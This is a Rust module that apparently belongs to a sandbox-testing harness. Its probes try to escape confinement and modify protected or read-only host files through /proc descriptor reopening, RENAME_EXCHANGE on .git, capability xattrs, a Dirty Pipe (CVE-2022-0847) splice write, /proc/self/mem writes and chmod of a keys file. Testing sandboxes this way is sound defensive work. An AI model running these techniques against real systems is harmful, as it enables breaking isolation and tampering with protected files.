//! H1 to H19: files of the host and protected names, by roundabout ways.

use crate::attack::{Attack, Finding, Outcome};
use crate::probe::system::{call, check, fact, text, workspace};
use std::fs::{self, File, OpenOptions};
use std::io::{self, Read, Seek, SeekFrom, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::OpenOptionsExt;

const HERE: i64 = libc::AT_FDCWD as i64;

pub const ATTACKS: &[Attack] = &[
    Attack::number(
        "H1-reopen",
        "a read-only descriptor reopened through /proc/self/fd",
        reopen,
        libc::O_RDONLY as i64,
    ),
    Attack::number(
        "H2-reopen-path",
        "an O_PATH descriptor reopened for writing",
        reopen,
        libc::O_PATH as i64,
    ),
    Attack::plain("H3-map-files", "a mapped read-only file through /proc/self/map_files", map_files),
    Attack::text("H4-thread-root", "/proc/thread-self/root", read_below, "/proc/thread-self/root"),
    Attack::plain("H5-task-cwd", "/proc/self/task/ID/cwd and up", task_cwd),
    Attack::plain("H6-tmpfile-link", "an unnamed file linked to a protected name", tmpfile_link),
    Attack::text("H7-exchange-directory", "RENAME_EXCHANGE with .git", exchange, ".git"),
    Attack::text("H8-exchange-file", "RENAME_EXCHANGE with a --protect file", exchange, "deep/area/keys"),
    Attack::plain("H9-whiteout-node", "an overlay's whiteout made with mknod", whiteout_node),
    Attack::plain("H10-whiteout-rename", "an overlay's whiteout left by a rename", whiteout_rename),
    Attack::text(
        "H11-overlay-attribute",
        "a trusted attribute that overlays obey",
        attribute,
        "trusted.overlay.opaque",
    ),
    Attack::text(
        "H12-capability-attribute",
        "file capabilities on a file of one's own",
        attribute,
        "security.capability",
    ),
    Attack::plain("H13-lease", "a lease on a workspace file: the host's next open of it waits", lease),
    Attack::plain("H14-lease-readonly", "a lease on a read-only file of the host", lease_readonly),
    Attack::plain("H15-dirty-pipe", "a pipe that shares a page of a read-only file, written on", dirty_pipe),
    Attack::number(
        "H16-own-memory-private",
        "a private mapping of a read-only file, by /proc/self/mem",
        own_memory,
        libc::MAP_PRIVATE as i64,
    ),
    Attack::number(
        "H17-own-memory-shared",
        "the same of a shared mapping",
        own_memory,
        libc::MAP_SHARED as i64,
    ),
    Attack::plain("H18-protected-times", "new times on a protected file", protected_times),
    Attack::plain("H53-device-mode", "the mode of the host's device nodes set, to what it is", device_mode),
    Attack::plain("H19-protected-mode", "a protected file made writable for all", protected_mode),
];

fn descriptor(file: &File) -> i64 {
    i64::from(file.as_raw_fd())
}

fn reopen(flags: i64) -> Finding {
    let name = text(&fact("readonly"));
    let opened = call(libc::SYS_openat, [HERE, name.as_ptr() as i64, flags, 0, 0, 0]);
    let again = opened.and_then(|fd| OpenOptions::new().write(true).open(format!("/proc/self/fd/{fd}")));
    Finding::of(again, "reopened for writing")
}

/// A read-only mapping of the file; lives until the process ends.
fn mapped(file: &File, kind: i64) -> io::Result<i64> {
    call(libc::SYS_mmap, [0, 4096, i64::from(libc::PROT_READ), kind, descriptor(file), 0])
}

fn map_files() -> Finding {
    let opened = File::open(fact("readonly")).and_then(|file| mapped(&file, i64::from(libc::MAP_SHARED)));
    let again = opened.and_then(|at| {
        let name = format!("/proc/self/map_files/{at:x}-{:x}", at + 4096);
        OpenOptions::new().write(true).open(name)
    });
    Finding::of(again, "map_files")
}

fn read_below(prefix: &'static str) -> Finding {
    host_text(fs::read_to_string(format!("{prefix}{}", fact("canary_public"))), prefix)
}

fn task_cwd() -> Finding {
    // SAFETY: takes no memory.
    let thread = unsafe { libc::gettid() };
    let path = format!("/proc/self/task/{thread}/cwd/{}{}", "../".repeat(20), fact("canary_public"));
    host_text(fs::read_to_string(path), "task cwd")
}

fn host_text(read: io::Result<String>, what: &str) -> Finding {
    match read {
        Ok(found) if found.contains(&fact("canary_text")) => Finding::new(Outcome::Done, what),
        Ok(_) => Finding::new(Outcome::Hidden, format!("{what}: other content")),
        Err(error) => Finding::of(Err::<(), _>(error), what),
    }
}

fn tmpfile_link() -> Finding {
    let made = OpenOptions::new().write(true).mode(0o755).custom_flags(libc::O_TMPFILE).open(workspace(""));
    let linked = made.and_then(|file| {
        let (from, to) =
            (text(&format!("/proc/self/fd/{}", file.as_raw_fd())), text(&workspace(".git/planted")));
        let follow = i64::from(libc::AT_SYMLINK_FOLLOW);
        call(libc::SYS_linkat, [HERE, from.as_ptr() as i64, HERE, to.as_ptr() as i64, follow, 0])
    });
    let finding = Finding::of(linked, "linkat");
    if finding.outcome == Outcome::Done {
        let _ = fs::remove_file(workspace(".git/planted"));
    }
    finding
}

fn rename2(from: &str, to: &str, flags: u32) -> io::Result<i64> {
    let (from, to) = (text(from), text(to));
    call(libc::SYS_renameat2, [HERE, from.as_ptr() as i64, HERE, to.as_ptr() as i64, i64::from(flags), 0])
}

fn exchange(protected: &'static str) -> Finding {
    let (own, other) = (workspace("exchange-me"), workspace(protected));
    let _ = fs::remove_dir_all(&own);
    let _ = fs::remove_file(&own);
    let made = match fs::metadata(&other).is_ok_and(|found| found.is_dir()) {
        true => fs::create_dir(&own),
        false => fs::write(&own, "forged"),
    };
    if let Err(error) = made {
        return Finding::new(Outcome::Error, format!("nothing to exchange: {error}"));
    }
    let finding = Finding::of_rare(rename2(&own, &other, libc::RENAME_EXCHANGE), protected);
    if finding.outcome == Outcome::Done {
        let _ = rename2(&own, &other, libc::RENAME_EXCHANGE);
    }
    finding
}

fn whiteout_node() -> Finding {
    let path = workspace("whiteout");
    let _ = fs::remove_file(&path);
    let name = text(&path);
    let kind = i64::from(libc::S_IFCHR) | 0o600;
    let made = call(libc::SYS_mknodat, [HERE, name.as_ptr() as i64, kind, 0, 0, 0]);
    let _ = fs::remove_file(path);
    Finding::of(made, "mknod of 0:0")
}

fn whiteout_rename() -> Finding {
    let (from, to) = (workspace("whiteout-from"), workspace("whiteout-to"));
    let _ = fs::remove_file(&from);
    if let Err(error) = fs::write(&from, "x") {
        return Finding::new(Outcome::Error, format!("nothing to rename: {error}"));
    }
    let renamed = rename2(&from, &to, libc::RENAME_WHITEOUT);
    for left in [from, to] {
        let _ = fs::remove_file(left);
    }
    Finding::of_rare(renamed, "RENAME_WHITEOUT")
}

fn attribute(name: &'static str) -> Finding {
    let path = workspace("attribute-of-mine");
    if let Err(error) = fs::write(&path, "x") {
        return Finding::new(Outcome::Error, format!("no file of one's own: {error}"));
    }
    // A valid value for capabilities, and as good as any for the other: version 2, CAP_NET_RAW.
    let mut value = [0u8; 20];
    value[..4].copy_from_slice(&0x0200_0001u32.to_le_bytes());
    value[4..8].copy_from_slice(&(1u32 << 13).to_le_bytes());
    let (at, key) = (text(&path), text(name));
    let set = call(
        libc::SYS_setxattr,
        [at.as_ptr() as i64, key.as_ptr() as i64, value.as_ptr() as i64, value.len() as i64, 0, 0],
    );
    let _ = fs::remove_file(path);
    Finding::of(set, name)
}

fn set_lease(file: &File, kind: i32) -> io::Result<i64> {
    call(libc::SYS_fcntl, [descriptor(file), i64::from(libc::F_SETLEASE), i64::from(kind), 0, 0, 0])
}

fn lease() -> Finding {
    let path = workspace("leased");
    let made = OpenOptions::new().read(true).write(true).create(true).truncate(true).open(&path);
    let finding = Finding::of_rare(made.and_then(|file| set_lease(&file, libc::F_WRLCK)), "F_SETLEASE");
    let _ = fs::remove_file(path);
    finding
}

fn lease_readonly() -> Finding {
    Finding::of_rare(
        File::open(fact("readonly")).and_then(|file| set_lease(&file, libc::F_RDLCK)),
        "F_SETLEASE of a file of the host",
    )
}

/// Checks if the protected file has changed; the result of the attempt itself does not count.
fn changed(what: &str, attempt: impl FnOnce(&str) -> io::Result<()>) -> Finding {
    let path = fact("readonly");
    let before = fs::read(&path);
    let tried = attempt(&path);
    let after = fs::read(&path);
    match (before, after) {
        (Ok(before), Ok(after)) if before == after => {
            Finding::new(Outcome::Denied, format!("{what}: {tried:?}"))
        }
        (Ok(_), Ok(_)) => Finding::new(Outcome::Done, what),
        (Err(error), _) | (_, Err(error)) => Finding::new(Outcome::Error, format!("{path}: {error}")),
    }
}

/// CVE-2022-0847: every slot of a pipe was once used and may be merged with, then one of them becomes a page of the file.
fn dirty_pipe() -> Finding {
    changed("splice", |path| {
        let file = File::open(path)?;
        let mut pair = [0i32; 2];
        call(libc::SYS_pipe2, [pair.as_mut_ptr() as i64, 0, 0, 0, 0, 0])?;
        let (reader, writer) = (i64::from(pair[0]), i64::from(pair[1]));
        let mut block = [0u8; 4096];
        for _ in 0..16 {
            call(libc::SYS_write, [writer, block.as_ptr() as i64, 4096, 0, 0, 0])?;
        }
        for _ in 0..16 {
            call(libc::SYS_read, [reader, block.as_mut_ptr() as i64, 4096, 0, 0, 0])?;
        }
        call(libc::SYS_splice, [descriptor(&file), 0, writer, 0, 1, 0])?;
        call(libc::SYS_write, [writer, b"forged".as_ptr() as i64, 6, 0, 0, 0]).map(drop)
    })
}

/// Writing by /proc/self/mem passes the protection of one's own pages (CVE-2016-5195 raced it past the copy).
fn own_memory(kind: i64) -> Finding {
    changed("/proc/self/mem", |path| {
        let at = mapped(&File::open(path)?, kind)?;
        let mut memory = OpenOptions::new().read(true).write(true).open("/proc/self/mem")?;
        memory.seek(SeekFrom::Start(at as u64))?;
        let mut byte = [0u8; 1];
        memory.read_exact(&mut byte)?;
        memory.seek(SeekFrom::Start(at as u64))?;
        memory.write_all(b"F")
    })
}

/// The nodes are the host's own, bound: a process with their owner's id outside could close them to the whole host.
fn device_mode() -> Finding {
    let mut last = Finding::new(Outcome::Error, "no device");
    for path in ["/dev/null", "/dev/zero", "/dev/full", "/dev/random"] {
        let mode = fs::metadata(path).map(|found| found.permissions());
        last = Finding::of(mode.and_then(|mode| fs::set_permissions(path, mode)), path);
        if last.outcome == Outcome::Done {
            break;
        }
    }
    last
}

fn protected_times() -> Finding {
    let name = text(&workspace(".git/config"));
    Finding::of(call(libc::SYS_utimensat, [HERE, name.as_ptr() as i64, 0, 0, 0, 0]), "utimensat")
}

fn protected_mode() -> Finding {
    let name = text(&workspace("deep/area/keys"));
    // SAFETY: the name outlives the call.
    Finding::of(check(i64::from(unsafe { libc::chmod(name.as_ptr(), 0o666) })), "chmod")
}
